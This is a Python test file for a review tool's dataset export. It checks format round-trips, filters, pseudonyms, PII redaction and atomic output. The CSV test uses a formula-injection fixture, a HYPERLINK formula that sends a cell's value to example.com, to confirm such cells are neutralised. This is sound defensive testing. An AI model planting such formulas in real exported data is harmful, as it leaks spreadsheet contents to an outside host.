"""Export of labelled feedback: every format round-trips what was decided, field by field, on
SQLite and PostgreSQL; filtering, pseudonyms, atomic output and the dataset card."""

from __future__ import annotations

import csv
import json
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import text

from reviewdesk import ReviewDesk
from reviewdesk.core.clock import ManualClock
from reviewdesk.core.domain import Decision
from reviewdesk.services.export import (
    FIELD_NAMES,
    CancelToken,
    ExportCancelled,
    ExportError,
    ExportFilter,
    ExportFormat,
    ExportOptions,
    ExportProgress,
    ExportResult,
    SplitSpec,
    export_dataset,
)
from reviewdesk.services.export import formats as formats_module
from reviewdesk.services.export.privacy import Pseudonymizer
from reviewdesk.storage.engine import create_engines
from reviewdesk.storage.export_sql import ExportStore
from tests.helpers.export_data import (
    LEAD,
    Spec,
    decide_all,
    escalation_specs,
    mixed_specs,
    resolve_escalations,
)

pytest.importorskip("pyarrow")


def run_export(desk: ReviewDesk, out: Path, **options: Any) -> ExportResult:
    return export_dataset(desk.target, ExportOptions(out=out, **options))


def expected_records(
    desk: ReviewDesk, specs: list[Spec], decisions: dict[str, Decision]
) -> dict[str, dict[str, Any]]:
    """What the export must hold for each draft, built from what was submitted and decided."""
    pseudonym = Pseudonymizer.for_database(desk.target)
    assert pseudonym.scope == "installation"  # the test keyring holds the secret
    # What the producer collects (results) is what the export holds: the final text and the
    # lead's resolution of an escalation.
    results = {r.id: r for r in desk.results(unsettled=True, include_delivered=True, limit=1000)}
    out: dict[str, dict[str, Any]] = {}
    for spec in specs:
        d = decisions[spec.id]
        result = results[spec.id]
        out[spec.id] = {
            "id": spec.id,
            "input": spec.input,
            "context": dict(spec.context),
            "draft": spec.submission()["draft"],
            "label": d.label.value,
            "final": result.final,
            "reason": d.reason,
            "severity": d.severity.value if d.severity else None,
            "note": d.note,
            "resolution": result.resolution,
            "resolution_note": result.resolution_note,
            "resolved_by": pseudonym(result.resolved_by) if result.resolved_by else None,
            "resolved_at": (
                result.resolved_at.astimezone(UTC).isoformat(timespec="microseconds")
                if result.resolved_at
                else None
            ),
            "category": spec.category,
            "risk": spec.risk,
            "model": spec.model,
            "confidence": spec.confidence,
            "edit_distance": d.edit_distance,
            "reviewer": pseudonym(spec.reviewer),
            "decided_at": d.decided_at.astimezone(UTC).isoformat(timespec="microseconds"),
            "review_seconds": d.review_seconds,
            "low_attention": False,
        }
    return out


# -- reading exports back --------------------------------------------------------------------


def read_jsonl(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def read_csv(path: Path) -> list[dict[str, Any]]:
    floats = ("confidence", "edit_distance", "review_seconds")
    rows = []
    with path.open(encoding="utf-8", newline="") as fh:
        for raw in csv.DictReader(fh):
            row: dict[str, Any] = {k: (v if v != "" else None) for k, v in raw.items()}
            for name in floats:
                row[name] = float(row[name]) if row[name] is not None else None
            row["context"] = json.loads(raw["context"])
            row["low_attention"] = {"true": True, "false": False}[raw["low_attention"]]
            rows.append(row)
    return rows


def read_parquet(path: Path) -> list[dict[str, Any]]:
    import pyarrow.parquet as pq

    rows = pq.read_table(path).to_pylist()
    for row in rows:
        row["context"] = json.loads(row["context"])
        for name in ("decided_at", "resolved_at"):
            if row[name] is not None:
                row[name] = row[name].isoformat(timespec="microseconds")
    return rows


READERS: dict[str, Callable[[Path], list[dict[str, Any]]]] = {
    "jsonl": read_jsonl,
    "csv": read_csv,
    "parquet": read_parquet,
    "hf": read_parquet,
}


def output_files(out: Path) -> list[Path]:
    return sorted(p for p in out.rglob("*") if p.is_file())


# -- round trips -----------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet", "hf"])
def test_round_trip_field_by_field(
    desk: ReviewDesk, clock: ManualClock, tmp_path: Path, fmt: str
) -> None:
    specs = mixed_specs() + escalation_specs()
    decisions = decide_all(desk, specs, clock)
    resolve_escalations(desk, clock)
    expected = expected_records(desk, specs, decisions)

    result = run_export(desk, tmp_path / "out", format=ExportFormat(fmt))

    assert result.records == len(specs)
    data_file = tmp_path / "out" / result.files["data"]
    rows = READERS[fmt](data_file)
    assert [r["id"] for r in rows] == [s.id for s in specs]  # decision order
    for row in rows:
        assert list(row) == list(FIELD_NAMES)
        want = expected[row["id"]]
        for name in FIELD_NAMES:
            assert row[name] == want[name], f"{fmt} {row['id']} field {name}"


def test_round_trip_evaluation_tool_formats(
    desk: ReviewDesk, clock: ManualClock, tmp_path: Path
) -> None:
    specs = mixed_specs()
    decisions = decide_all(desk, specs, clock)
    want = expected_records(desk, specs, decisions)

    inspect = run_export(desk, tmp_path / "inspect", format=ExportFormat.INSPECT)
    samples = read_jsonl(tmp_path / "inspect" / "data.jsonl")
    # The escalated draft has no input: inspect-ai refuses a sample without one.
    assert inspect.skipped == {"no input": 1}
    assert [s["id"] for s in samples] == ["t-approved", "t-edited", "t-rejected"]
    for sample in samples:
        record = want[sample["id"]]
        assert sample["target"] == (record["final"] or "")
        if record["context"]:
            system, user = sample["input"]
            assert system["role"] == "system"
            assert json.loads(system["content"].removeprefix("Context:\n")) == record["context"]
            assert user == {"role": "user", "content": record["input"]}
        else:
            assert sample["input"] == record["input"]
        assert sample["metadata"] == {
            k: v for k, v in record.items() if k not in ("id", "input", "final")
        }

    promptfoo = run_export(desk, tmp_path / "promptfoo", format=ExportFormat.PROMPTFOO)
    cases = {c["description"]: c for c in read_jsonl(tmp_path / "promptfoo" / "data.jsonl")}
    assert promptfoo.skipped == {"no input": 1}
    assert (
        (tmp_path / "promptfoo" / "promptfooconfig.yaml")
        .read_text()
        .endswith("tests: file://data.jsonl\n")
    )
    for case_id, case in cases.items():
        record = want[case_id]
        assert case["vars"]["input"] == record["input"]
        assert json.loads(case["vars"]["context"]) == record["context"]
        assert case["metadata"]["label"] == record["label"]
        assert case["metadata"]["reviewer"] == record["reviewer"]
    assert cases["t-approved"]["assert"] == [
        {"type": "factuality", "value": want["t-approved"]["final"]}
    ]
    assert cases["t-edited"]["assert"] == [
        {"type": "factuality", "value": "Your refund was issued today; allow 5–7 days. ✓"}
    ]
    rejected = cases["t-rejected"]["assert"]
    assert rejected[0] == {"type": "not-equals", "value": want["t-rejected"]["draft"]}
    assert rejected[1]["type"] == "llm-rubric"
    assert "hallucination" in rejected[1]["value"] and "Invents a policy." in rejected[1]["value"]

    evals = run_export(desk, tmp_path / "evals", format=ExportFormat.OPENAI_EVALS)
    samples = read_jsonl(tmp_path / "evals" / "data.jsonl")
    assert evals.skipped == {
        "no reference answer (rejected, or escalated and not sent)": 1,
        "no input": 1,
    }
    assert [s["ideal"] for s in samples] == [want["t-approved"]["final"], want["t-edited"]["final"]]
    assert samples[0]["input"][0]["role"] == "system"
    assert samples[0]["input"][-1] == {"role": "user", "content": "Where is my refund?"}
    assert samples[1]["input"] == [{"role": "user", "content": "Wo ist meine Rückerstattung? 🙂"}]
    for sample in samples:
        assert set(sample) == {"input", "ideal"}


def test_escalation_resolutions_reach_every_format(
    desk: ReviewDesk, clock: ManualClock, tmp_path: Path
) -> None:
    specs = escalation_specs()
    decisions = decide_all(desk, specs, clock)
    resolve_escalations(desk, clock)
    want = expected_records(desk, specs, decisions)
    draft = {s.id: s.submission()["draft"] for s in specs}
    lead_text = "We are looking into it; a specialist writes back today."
    # The text to send is the lead's: the draft as is, or the lead's edit; none otherwise.
    assert [(want[s.id]["resolution"], want[s.id]["final"]) for s in specs] == [
        ("send_as_is", draft["e-as-is"]),
        ("send_edited", lead_text),
        ("reject", None),
        ("dismiss", None),
        (None, None),
    ]

    result = run_export(desk, tmp_path / "jsonl")
    rows = {r["id"]: r for r in read_jsonl(tmp_path / "jsonl" / "data.jsonl")}
    assert rows == want
    assert LEAD not in (tmp_path / "jsonl" / "data.jsonl").read_text()
    assert rows["e-reject"]["resolution_note"] == "Lead on reject."
    assert (
        "- Escalations: 5; resolved by a lead: send as is 1, send edited 1, reject 1, "
        "dismiss 1; still open: 1" in result.card
    )

    run_export(desk, tmp_path / "inspect", format=ExportFormat.INSPECT)
    targets = {s["id"]: s["target"] for s in read_jsonl(tmp_path / "inspect" / "data.jsonl")}
    assert targets == {
        "e-as-is": draft["e-as-is"],
        "e-edited": lead_text,
        "e-reject": "",
        "e-dismiss": "",
        "e-open": "",
    }

    promptfoo = run_export(desk, tmp_path / "promptfoo", format=ExportFormat.PROMPTFOO)
    assert promptfoo.skipped == {}
    cases = {c["description"]: c for c in read_jsonl(tmp_path / "promptfoo" / "data.jsonl")}
    assert cases["e-as-is"]["assert"] == [{"type": "factuality", "value": draft["e-as-is"]}]
    assert cases["e-edited"]["assert"] == [{"type": "factuality", "value": lead_text}]
    rejected = cases["e-reject"]["assert"]
    assert rejected[0] == {"type": "not-equals", "value": draft["e-reject"]}
    assert rejected[1]["type"] == "llm-rubric"
    assert "a lead rejected it" in rejected[1]["value"]
    assert (
        "Lead on reject." in rejected[1]["value"] and "Escalated: reject." in rejected[1]["value"]
    )
    for open_ in ("e-dismiss", "e-open"):
        (rubric,) = cases[open_]["assert"]
        assert rubric["type"] == "llm-rubric" and "hand it to a person" in rubric["value"]
    assert {c["metadata"].get("resolution") for c in cases.values()} == {
        "send_as_is",
        "send_edited",
        "reject",
        "dismiss",
        None,
    }

    evals = run_export(desk, tmp_path / "evals", format=ExportFormat.OPENAI_EVALS)
    ideals = [s["ideal"] for s in read_jsonl(tmp_path / "evals" / "data.jsonl")]
    assert ideals == [draft["e-as-is"], lead_text]
    assert evals.skipped == {"no reference answer (rejected, or escalated and not sent)": 3}


def test_csv_cells_that_start_like_formulas_are_neutralized(
    desk: ReviewDesk, clock: ManualClock, tmp_path: Path
) -> None:
    """A spreadsheet runs a CSV cell starting with = + - @ tab or CR as a formula: such cells get
    one more leading ' in CSV (OWASP), and every other format keeps the exact text. A carriage
    return anywhere in a cell keeps the record on one row."""
    specs = [
        Spec(
            "f-edit",
            "edit",
            draft='=HYPERLINK("https://example.com/?d="&A1,"Refund")',
            input="+1 555 0100 is my number",
            text="@SUM(A1:A9)",
            note="-2 stars",
            category="=cat",
            model="@model",
        ),
        Spec(
            "f-reject",
            "reject",
            draft="\tIndented draft",
            input="\rCarriage return first",
            reason="other",
            note="'=already quoted",
        ),
        Spec(
            "f-plain",
            "approve",
            draft="Totals: =1+1 inside the text",
            input="a-b",
            note="a carriage return\rinside",
        ),
    ]
    decide_all(desk, specs, clock)

    run_export(desk, tmp_path / "csv", format=ExportFormat.CSV)
    with (tmp_path / "csv" / "data.csv").open(encoding="utf-8", newline="") as fh:
        cells = {row["id"]: row for row in csv.DictReader(fh)}
    assert list(cells) == ["f-edit", "f-reject", "f-plain"]
    neutralized = {
        name: cells["f-edit"][name] for name in ("draft", "input", "final", "note", "category")
    }
    assert neutralized == {
        "draft": '\'=HYPERLINK("https://example.com/?d="&A1,"Refund")',
        "input": "'+1 555 0100 is my number",
        "final": "'@SUM(A1:A9)",
        "note": "'-2 stars",
        "category": "'=cat",
    }
    assert cells["f-edit"]["model"] == "'@model"
    assert cells["f-reject"]["draft"] == "'\tIndented draft"
    assert cells["f-reject"]["input"] == "'\rCarriage return first"
    assert cells["f-reject"]["note"] == "''=already quoted"  # one ' removed gives it back
    assert cells["f-plain"]["draft"] == cells["f-plain"]["final"] == "Totals: =1+1 inside the text"
    assert cells["f-plain"]["input"] == "a-b"
    assert cells["f-plain"]["note"] == "a carriage return\rinside"
    assert cells["f-plain"]["confidence"] == "0.8"
    assert cells["f-edit"]["context"] == "{}"

    jsonl = run_export(desk, tmp_path / "jsonl", format=ExportFormat.JSONL)
    exact = {r["id"]: r for r in read_jsonl(tmp_path / "jsonl" / "data.jsonl")}
    assert exact["f-edit"]["draft"] == '=HYPERLINK("https://example.com/?d="&A1,"Refund")'
    assert exact["f-edit"]["input"] == "+1 555 0100 is my number"
    assert exact["f-edit"]["final"] == "@SUM(A1:A9)"
    assert exact["f-edit"]["note"] == "-2 stars"
    assert exact["f-edit"]["category"] == "=cat"
    assert exact["f-reject"]["draft"] == "\tIndented draft"
    assert exact["f-reject"]["input"] == "\rCarriage return first"
    assert exact["f-reject"]["note"] == "'=already quoted"
    assert "CSV injection" not in jsonl.card
    card = (tmp_path / "csv" / "README.md").read_text(encoding="utf-8")
    assert "is written with one more `'` in front" in card and "CSV injection" in card


def test_keyset_pages_stream_everything_once(desk: ReviewDesk, clock: ManualClock) -> None:
    specs = [Spec(f"p-{i:02d}") for i in range(23)]
    decide_all(desk, specs, clock)
    engines = create_engines(desk.target)
    try:
        store = ExportStore(engines, page=4)
        low, high = store.decision_id_range()
        pages = list(store.stream_records(ExportFilter(), upto=high))
    finally:
        engines.dispose()
    assert [len(p) for p in pages] == [4, 4, 4, 4, 4, 3]
    assert [r[1] for p in pages for r in p] == [s.id for s in specs]
    assert low == pages[0][0][0]


# -- what goes in ----------------------------------------------------------------------------


def test_gold_undone_and_low_attention_are_filtered(
    desk: ReviewDesk, clock: ManualClock, tmp_path: Path
) -> None:
    specs = [Spec("keep"), Spec("gold"), Spec("sloppy"), Spec("redo")]
    decide_all(desk, specs, clock)
    # Undo the last decision, then decide again: only the second, live decision is exported.
    lease = desk.undo("reviewer-ana-q7")
    assert lease.draft.id == "redo"
    desk.decide(lease, "edit", text="Second thoughts.", review_seconds=3.0)
    engines = create_engines(desk.target)
    with engines.write.begin() as conn:
        conn.execute(text("UPDATE draft SET is_gold = true WHERE external_id = 'gold'"))
        conn.execute(
            text(
                "UPDATE decision SET low_attention = true WHERE draft_id = "
                "(SELECT id FROM draft WHERE external_id = 'sloppy')"
            )
        )
    engines.dispose()

    result = run_export(desk, tmp_path / "default")
    rows = {r["id"]: r for r in read_jsonl(tmp_path / "default" / "data.jsonl")}
    assert sorted(rows) == ["keep", "redo"]
    assert rows["redo"]["label"] == "edited" and rows["redo"]["final"] == "Second thoughts."
    assert result.records == 2

    result = run_export(desk, tmp_path / "all", filter=ExportFilter(include_low_attention=True))
    rows = {r["id"]: r for r in read_jsonl(tmp_path / "all" / "data.jsonl")}
    assert sorted(rows) == ["keep", "redo", "sloppy"]
    assert rows["sloppy"]["low_attention"] is True
    assert rows["keep"]["low_attention"] is False
    assert "Low-attention decisions included and flagged (`low_attention`): 1" in result.card
    assert "gold" not in (tmp_path / "all" / "data.jsonl").read_text()


def test_filters_select_by_period_category_label_model_and_risk(
    desk: ReviewDesk, clock: ManualClock, tmp_path: Path
) -> None:
    specs = [
        Spec("a", category="refund", risk="low", model="m-1"),
        Spec("b", "reject", category="billing", risk="high", model="m-2", reason="off_topic"),
        Spec("c", "edit", category="refund", risk="high", model="m-2", text="Better."),
        Spec("d", category="legal", risk="medium", model=None),
    ]
    start = clock.now()
    decide_all(desk, specs, clock)  # decided at start + 0, 1, 2, 3 s

    def ids(**flt: Any) -> list[str]:
        out = tmp_path / f"o{len(list(tmp_path.iterdir()))}"
        run_export(desk, out, filter=ExportFilter(**flt))
        path = out / "data.jsonl"
        return [r["id"] for r in read_jsonl(path)] if path.exists() else []

    assert ids() == ["a", "b", "c", "d"]
    assert ids(since=start + timedelta(seconds=1)) == ["b", "c", "d"]
    assert ids(until=start + timedelta(seconds=2)) == ["a", "b"]
    assert ids(categories=("refund", "legal")) == ["a", "c", "d"]
    assert ids(labels=("rejected", "edited")) == ["b", "c"]
    assert ids(models=("m-2",)) == ["b", "c"]
    assert ids(risks=("high",), categories=("refund",)) == ["c"]
    assert ids(categories=("nothing",)) == []


def test_an_empty_export_still_gets_a_card(desk: ReviewDesk, tmp_path: Path) -> None:
    result = run_export(desk, tmp_path / "out")
    assert result.records == 0
    assert output_files(tmp_path / "out") == [tmp_path / "out" / "README.md"]
    assert "- Records: 0" in result.card


# -- privacy ---------------------------------------------------------------------------------


def test_pseudonyms_are_stable_distinct_and_no_name_is_left(
    desk: ReviewDesk, clock: ManualClock, tmp_path: Path
) -> None:
    specs = mixed_specs()
    decide_all(desk, specs, clock)
    names = {s.reviewer for s in specs}
    first = {}
    for fmt in ExportFormat:
        out = tmp_path / fmt.value
        run_export(desk, out, format=fmt, split=SplitSpec.parse("test=0.5"))
        for path in output_files(out):
            content = path.read_bytes()
            for name in names:
                assert name.encode() not in content, f"{name} in {path}"
    for row in read_jsonl(tmp_path / "jsonl" / "train.jsonl") + read_jsonl(
        tmp_path / "jsonl" / "test.jsonl"
    ):
        first[row["id"]] = row["reviewer"]
    # Again, a second export: the keyring secret makes the same pseudonyms.
    run_export(desk, tmp_path / "again")
    again = {r["id"]: r["reviewer"] for r in read_jsonl(tmp_path / "again" / "data.jsonl")}
    assert again == first
    assert first["t-approved"] == first["t-rejected"]  # the same reviewer
    assert first["t-approved"] != first["t-edited"]  # different reviewers
    assert all(p.startswith("r-") and len(p) == 18 for p in first.values())


def test_without_a_keyring_pseudonyms_hold_within_one_export_only(
    desk: ReviewDesk,
    clock: ManualClock,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    decide_all(desk, mixed_specs(), clock)
    monkeypatch.setattr("reviewdesk.config.secrets.keyring_available", lambda: False)
    one = run_export(desk, tmp_path / "one")
    two = run_export(desk, tmp_path / "two")
    assert one.pseudonym_scope == two.pseudonym_scope == "export"
    assert "stable within this export only" in one.card
    a = [r["reviewer"] for r in read_jsonl(tmp_path / "one" / "data.jsonl")]
    b = [r["reviewer"] for r in read_jsonl(tmp_path / "two" / "data.jsonl")]
    assert a[0] == a[2] and a[0] != a[1]  # consistent within the export
    assert set(a).isdisjoint(b)  # unlinkable across exports


def test_the_pseudonym_key_lives_in_the_keyring_per_database(
    desk: ReviewDesk, clock: ManualClock, tmp_path: Path, hermetic: Any
) -> None:
    decide_all(desk, [Spec("x")], clock)
    run_export(desk, tmp_path / "out")
    accounts = [user for (service, user) in hermetic.store if service == "reviewdesk"]
    assert len(accounts) == 1 and accounts[0].startswith("export-pseudonym-key@")
    assert "Reviewer" not in accounts[0]


def test_redaction_reaches_every_text_and_nested_context(
    desk: ReviewDesk, clock: ManualClock, tmp_path: Path
) -> None:
    specs = [
        Spec(
            "pii",
            "edit",
            input="Mail ana.perez@example.com or call +44 20 7946 0958.",
            draft="Card 4111 1111 1111 1111 noted.",
            text="Refund to IBAN DE89 3704 0044 0532 0130 00 today.",
            note="Customer phone (415) 555-0132.",
            context={"customer": {"email": "ana.perez@example.com", "ids": ["ok-123"]}},
        )
    ]
    decide_all(desk, specs, clock)
    result = run_export(desk, tmp_path / "out", redact=True)
    (row,) = read_jsonl(tmp_path / "out" / "data.jsonl")
    assert row["input"] == "Mail [EMAIL] or call [PHONE]."
    assert row["draft"] == "Card [CARD] noted."
    assert row["final"] == "Refund to IBAN [IBAN] today."
    assert row["note"] == "Customer phone [PHONE]."
    assert row["context"] == {"customer": {"email": "[EMAIL]", "ids": ["ok-123"]}}
    assert result.redactions == {"email": 2, "phone": 2, "card": 1, "iban": 1}
    assert "Replaced: card 1, email 2, iban 1, phone 2." in result.card
    raw = b"".join(p.read_bytes() for p in output_files(tmp_path / "out"))
    assert b"example.com" not in raw and b"4111" not in raw and b"7946" not in raw


def test_redaction_reaches_the_leads_text_and_note(
    desk: ReviewDesk, clock: ManualClock, tmp_path: Path
) -> None:
    from reviewdesk.services.escalations import EscalationInbox

    decide_all(desk, [Spec("esc", "escalate", severity="low", note="Check.")], clock)
    inbox = EscalationInbox.for_desk(desk)
    (item,) = inbox.list()
    inbox.resolve(
        item.cursor,
        "send_edited",
        note="Called ana.perez@example.com back.",
        lead=LEAD,
        text="Write to ana.perez@example.com for the refund.",
    )
    run_export(desk, tmp_path / "out", redact=True)
    (row,) = read_jsonl(tmp_path / "out" / "data.jsonl")
    assert row["final"] == "Write to [EMAIL] for the refund."
    assert row["resolution_note"] == "Called [EMAIL] back."


# -- atomic output ---------------------------------------------------------------------------


def test_a_failed_export_leaves_nothing(
    desk: ReviewDesk, clock: ManualClock, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    decide_all(desk, [Spec(f"f-{i}") for i in range(5)], clock)
    writes = 0
    original = formats_module.JsonlWriter.write

    def failing(self: Any, split: str, record: dict[str, Any]) -> str | None:
        nonlocal writes
        writes += 1
        if writes == 3:
            raise OSError("disk full")
        return original(self, split, record)

    monkeypatch.setattr(formats_module.JsonlWriter, "write", failing)
    with pytest.raises(ExportError, match=r"failed \(disk full\); nothing was written"):
        run_export(desk, tmp_path / "out")
    assert not (tmp_path / "out").exists()
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".out.")]


def test_cancel_stops_at_the_next_page_and_leaves_nothing(
    desk: ReviewDesk, clock: ManualClock, tmp_path: Path
) -> None:
    decide_all(desk, [Spec(f"c-{i}") for i in range(3)], clock)
    (tmp_path / "out").mkdir()  # an existing empty folder stays as it was
    token = CancelToken()
    seen: list[ExportProgress] = []

    def progress(p: ExportProgress) -> None:
        seen.append(p)
        if p.phase == "writing" and p.done:
            token.cancel()

    with pytest.raises(ExportCancelled, match="nothing was written"):
        export_dataset(
            desk.target, ExportOptions(out=tmp_path / "out"), progress=progress, cancel=token
        )
    assert list((tmp_path / "out").iterdir()) == []
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".out.")]
    assert [p.phase for p in seen][:2] == ["starting", "writing"]


def test_a_non_empty_folder_is_refused_unless_forced(
    desk: ReviewDesk, clock: ManualClock, tmp_path: Path
) -> None:
    decide_all(desk, [Spec("x")], clock)
    out = tmp_path / "out"
    out.mkdir()
    (out / "precious.txt").write_text("keep me")
    with pytest.raises(ExportError, match=r"not empty.*--force"):
        run_export(desk, out)
    assert (out / "precious.txt").read_text() == "keep me"
    run_export(desk, out, force=True)
    assert sorted(p.name for p in out.iterdir()) == ["README.md", "data.jsonl"]
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".out.")]


@pytest.mark.parametrize(
    ("options", "message"),
    [
        ({"seed": -1}, "--seed -1"),
        ({"per_stratum": 5}, "--per-stratum only applies with --balance"),
        ({"balance": True, "per_stratum": 0}, "--per-stratum 0: must be at least 1"),
        (
            {
                "filter": ExportFilter(
                    since=datetime(2026, 2, 1, tzinfo=UTC), until=datetime(2026, 1, 1, tzinfo=UTC)
                )
            },
            "is not before --until",
        ),
    ],
)
def test_bad_options_are_named(
    desk: ReviewDesk, tmp_path: Path, options: dict[str, Any], message: str
) -> None:
    with pytest.raises(ExportError, match=message):
        run_export(desk, tmp_path / "out", **options)
    assert not (tmp_path / "out").exists()


def test_a_missing_pyarrow_is_a_clear_message(
    desk: ReviewDesk, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("reviewdesk.services.export.runner.pyarrow_available", lambda: False)
    with pytest.raises(ExportError, match=r"pip install 'reviewdesk\[parquet\]'"):
        run_export(desk, tmp_path / "out", format=ExportFormat.PARQUET)


def test_progress_reaches_the_end(desk: ReviewDesk, clock: ManualClock, tmp_path: Path) -> None:
    progress_log: list[ExportProgress] = []
    # Three approvals and one rejection: balancing keeps one of each, after a sampling pass.
    specs = [Spec(f"g-{i}") for i in range(3)] + [Spec("g-r", "reject", reason="other")]
    decide_all(desk, specs, clock)
    export_dataset(
        desk.target,
        ExportOptions(out=tmp_path / "out", balance=True),
        progress=progress_log.append,
    )
    phases = [p.phase for p in progress_log]
    assert phases[0] == "starting" and phases[-1] == "finishing"
    assert "sampling" in phases
    assert progress_log[-1].fraction == 1.0 and progress_log[-1].written == 2


def test_an_unreachable_database_is_named_without_its_password(tmp_path: Path) -> None:
    from reviewdesk.core.errors import DatabaseUnavailable
    from reviewdesk.storage.engine import resolve_target

    target = resolve_target("postgresql+psycopg://ana:s3cret@127.0.0.1:1/nowhere")
    with pytest.raises(DatabaseUnavailable, match=r"ana:\*\*\*@127\.0\.0\.1:1/nowhere") as info:
        export_dataset(target, ExportOptions(out=tmp_path / "out"))
    assert "s3cret" not in str(info.value)
    assert not (tmp_path / "out").exists()
